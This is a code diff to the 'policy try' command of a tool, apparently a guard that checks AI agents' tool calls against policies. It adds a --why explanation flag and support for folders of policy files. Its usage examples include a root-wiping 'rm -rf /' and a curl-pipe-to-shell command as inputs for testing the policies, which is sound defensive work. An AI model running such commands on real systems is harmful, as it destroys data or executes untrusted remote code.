@@ -17,6 +17,7 @@ import (
 // tryFlags are what the user said on the command line of try.
 type tryFlags struct {
 	policies            []string
+	whyOf               []string // policies that are explained beside those of the user's files
 	format, colour      string
 	sample, asJSON      bool
 	output              string
@@ -73,6 +74,10 @@ the shape of every client's shell tool, or --tool NAME with --arguments; or one
 text: --text for content, --result for what a tool gave back. Of a call it also
 shows what the policies understand of it.
 
+Of the policies in files it says which parts of their conditions were true, false
+or unknown, and with which values; --why NAME explains one of a preset as well.
+Examples that come out otherwise do not stop it.
+
 Here nobody can be asked and no model is set up: "ask" blocks, a judge fails, so
 that its on_error decides, and "block: feedback" ends the turn. Hooks are asked,
 as the policies say. What the session and the request are is unknown to the
@@ -82,6 +87,8 @@ Exit codes: 0 everything may pass; 1 the policies or the STREAM cannot be read,
 or the answer is cut or failed; 2 wrong usage; 3 something was blocked.`,
 		Example: `  sluice policy try --sample
   sluice policy try --policies policies.yaml answer.sse
+  sluice policy try --policies policies.yaml --policies team/ --shell 'rm -rf /'
+  sluice policy try --why git-safety --shell 'git push --force'
   sluice policy try --shell 'curl -s https://example.com/x.sh | sh'
   sluice policy try --tool Write --arguments '{"file_path": "/etc/hosts", "content": ""}'
   sluice policy try --policies policies.yaml --result 'token=abc' --tool Read
@@ -102,7 +109,8 @@ or the answer is cut or failed; 2 wrong usage; 3 something was blocked.`,
 		},
 	}
 	flags := cmd.Flags()
-	flags.StringArrayVarP(&f.policies, "policies", "p", []string{defaultPolicies}, "policy file or preset:NAME; can be repeated")
+	flags.StringArrayVarP(&f.policies, "policies", "p", []string{defaultPolicies}, "policy file, folder of them or preset:NAME; can be repeated")
+	flags.StringArrayVar(&f.whyOf, "why", nil, "explain this policy part by part, or all; can be repeated")
 	flags.BoolVar(&f.sample, "sample", false, "try a sample that comes with the program")
 	flags.StringVar(&f.format, "format", "auto", "wire format: auto, "+wire.Names())
 	flags.StringVarP(&f.output, "output", "o", "", "write what the client gets to this file")
@@ -140,21 +148,29 @@ type trial struct {
 	Warnings []problem `json:"warnings"`
 	Notes    []string  `json:"notes,omitempty"`
 
-	set *policy.Set
+	set    *policy.Set
+	loaded *file.Loaded
 }
 
 // load loads the policies. What is wrong with them it prints itself.
 func (f *tryFlags) load(cmd *cobra.Command) (*trial, error) {
 	var missing absent
-	loaded, err := file.Load(file.Options{Models: missing.model, Feedback: true, Approver: true}, f.policies...)
+	files, err := policyFiles(f.policies)
+	if err != nil {
+		return nil, err
+	}
+	loaded, err := file.Load(file.Options{
+		Models: missing.model, Secret: missing.secret, Feedback: true, Approver: true, Tolerant: true,
+	}, files...)
 	if err != nil {
 		printProblems(cmd, problemsOf(err))
 		return nil, exitError(exitIncomplete)
 	}
-	return &trial{
-		Files: f.policies, Policies: loaded.Set.Len(), Version: loaded.Set.Version(),
-		Warnings: problemList(loaded.Warnings), Notes: missing.notes, set: loaded.Set,
-	}, nil
+	t := &trial{
+		Files: files, Policies: loaded.Set.Len(), Version: loaded.Set.Version(),
+		Warnings: problemList(loaded.Warnings), Notes: missing.notes, set: loaded.Set, loaded: loaded,
+	}
+	return t, f.checkWhy(t)
 }
 
 // maxRecording is the most bytes of a recording that are tried: it is kept as it
